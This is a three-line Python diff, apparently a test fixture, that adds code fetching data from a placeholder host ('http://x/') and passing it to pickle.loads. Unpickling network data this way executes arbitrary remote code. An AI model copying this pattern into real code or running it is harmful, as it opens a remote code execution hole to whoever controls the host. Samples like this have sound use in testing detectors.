@@ -1,0 +1,3 @@
+import pickle
+import requests
+s = "😀" * 3; pickle.loads(requests.get("http://x/😀").content)
